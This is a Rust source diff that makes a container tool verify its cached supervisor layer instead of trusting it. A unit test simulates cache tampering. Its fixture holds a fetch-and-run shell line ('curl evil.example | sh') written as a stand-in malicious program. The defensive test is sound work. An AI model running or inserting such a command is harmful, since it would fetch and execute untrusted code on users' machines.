@@ -139,49 +139,62 @@ pub fn supervisor_layer(path: &Path) -> Result<std::sync::Arc<Layer>, String> {
 }
 
 fn make_supervisor_layer(path: &Path) -> Result<Layer, String> {
+    make_supervisor_layer_in(path, cache_dir().map(|d| d.join("layers")))
+}
+
+fn make_supervisor_layer_in(path: &Path, cache: Option<PathBuf>) -> Result<Layer, String> {
     let bytes = std::fs::read(path).map_err(|e| format!("{}: {e}", path.display()))?;
     let key = digest(&bytes);
-    let cache = cache_dir().map(|d| d.join("layers"));
     let hex = key.trim_start_matches("sha256:");
+    let files = [File {
+        path: SUPERVISOR_PATH.into(),
+        mode: 0o755,
+        bytes,
+    }];
+    let comment = format!("scar-supervisor {SUPERVISOR_VERSION}");
     if let Some(dir) = &cache
-        && let (Ok(blob), Ok(meta)) = (
-            std::fs::read(dir.join(format!("{hex}.tar.gz"))),
-            std::fs::read(dir.join(format!("{hex}.json"))),
-        )
-        && let Ok(meta) = serde_json::from_slice::<Value>(&meta)
-        && meta["digest"] == json!(digest(&blob))
-        && let Some(diff_id) = meta["diff_id"].as_str()
+        && let Ok(blob) = std::fs::read(dir.join(format!("{hex}.tar.gz")))
     {
-        return Ok(Layer {
-            digest: digest(&blob),
-            diff_id: diff_id.to_owned(),
-            blob,
-            comment: format!("scar-supervisor {SUPERVISOR_VERSION}"),
-        });
+        // Nothing in the cache folder is trusted: the cached blob is used only when it
+        // unpacks to exactly the tar this binary makes (writing the tar costs a copy;
+        // compressing it again would cost seconds).
+        let want =
+            super::tar_of(&files).map_err(|e| format!("building the supervisor layer: {e}"))?;
+        if unpacks_to(&blob, &want) {
+            return Ok(Layer {
+                digest: digest(&blob),
+                diff_id: digest(&want),
+                blob,
+                comment,
+            });
+        }
+        tracing::warn!(
+            cache = %dir.display(),
+            "a cached supervisor layer does not hold this supervisor; making it again"
+        );
     }
-    let layer = super::layer_at(
-        &[File {
-            path: SUPERVISOR_PATH.into(),
-            mode: 0o755,
-            bytes,
-        }],
-        &format!("scar-supervisor {SUPERVISOR_VERSION}"),
-        Compression::fast(),
-    )
-    .map_err(|e| format!("building the supervisor layer: {e}"))?;
+    let layer = super::layer_at(&files, &comment, Compression::fast())
+        .map_err(|e| format!("building the supervisor layer: {e}"))?;
     if let Some(dir) = &cache {
         // The cache is an optimisation: failing to write it changes nothing.
         let _ = std::fs::create_dir_all(dir).and_then(|()| {
             let tmp = dir.join(format!("{hex}.tar.gz.{}.tmp", std::process::id()));
             std::fs::write(&tmp, &layer.blob)?;
-            std::fs::rename(&tmp, dir.join(format!("{hex}.tar.gz")))?;
-            std::fs::write(
-                dir.join(format!("{hex}.json")),
-                json!({"digest": layer.digest, "diff_id": layer.diff_id}).to_string(),
-            )
+            std::fs::rename(&tmp, dir.join(format!("{hex}.tar.gz")))
         });
     }
     Ok(layer)
+}
+
+/// True when the gzip `blob` decompresses to exactly `want` (and nothing more).
+fn unpacks_to(blob: &[u8], want: &[u8]) -> bool {
+    let mut out = Vec::with_capacity(want.len());
+    let limit = u64::try_from(want.len()).unwrap_or(u64::MAX) + 1;
+    flate2::read::GzDecoder::new(blob)
+        .take(limit)
+        .read_to_end(&mut out)
+        .is_ok()
+        && out == want
 }
 
 fn cache_dir() -> Option<PathBuf> {
@@ -532,6 +545,48 @@ fn human(bytes: u64) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn supervisor_layer_cache_is_verified_not_trusted() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let binary = dir.path().join("scar-supervisor");
+        std::fs::write(&binary, b"\x7fELF the real supervisor").expect("write");
+        let cache = dir.path().join("layers");
+        let first = make_supervisor_layer_in(&binary, Some(cache.clone())).expect("layer");
+        let hex = digest(b"\x7fELF the real supervisor");
+        let cached = cache.join(format!("{}.tar.gz", hex.trim_start_matches("sha256:")));
+        assert!(cached.exists(), "the layer was cached");
+        // Someone with write access to the cache puts another program in its place.
+        let evil = crate::image::layer(
+            &[File {
+                path: SUPERVISOR_PATH.into(),
+                mode: 0o755,
+                bytes: b"#!/bin/sh\ncurl evil.example | sh".to_vec(),
+            }],
+            "x",
+        )
+        .expect("layer");
+        std::fs::write(&cached, &evil.blob).expect("tamper");
+        let again = make_supervisor_layer_in(&binary, Some(cache.clone())).expect("layer");
+        assert_eq!(again.diff_id, first.diff_id);
+        assert!(unpacks_to(
+            &again.blob,
+            &tar_of_binary(b"\x7fELF the real supervisor")
+        ));
+        assert_ne!(again.digest, evil.digest, "the tampered cache was used");
+        // And a good cache entry is used as is.
+        let third = make_supervisor_layer_in(&binary, Some(cache)).expect("layer");
+        assert_eq!(third.digest, again.digest);
+    }
+
+    fn tar_of_binary(bytes: &[u8]) -> Vec<u8> {
+        crate::image::tar_of(&[File {
+            path: SUPERVISOR_PATH.into(),
+            mode: 0o755,
+            bytes: bytes.to_vec(),
+        }])
+        .expect("tar")
+    }
 
     #[test]
     fn lambda_architectures_have_oci_names() {
